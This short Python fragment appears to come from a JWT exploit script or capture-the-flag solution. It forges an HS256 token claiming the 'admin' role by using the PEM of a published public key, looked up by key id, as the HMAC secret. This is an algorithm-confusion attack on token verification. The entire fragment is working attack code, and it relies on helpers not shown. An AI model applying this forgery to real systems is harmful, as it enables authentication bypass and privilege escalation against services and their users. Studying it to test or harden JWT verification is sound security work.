# HMAC with the standard library in place of sign_hs256
import hmac

body = mine.base64url_encode(json.dumps({"sub": "x", "jti": "y", "roles": ["admin"]}).encode())
head = mine.base64url_encode(json.dumps({"alg": "HS256", "kid": header["kid"]}).encode())
tag = hmac.digest(
    pem_of(mine.find_key(published, header["kid"])), f"{head}.{body}".encode(), "sha256"
)
forged = f"{head}.{body}.{mine.base64url_encode(tag)}"
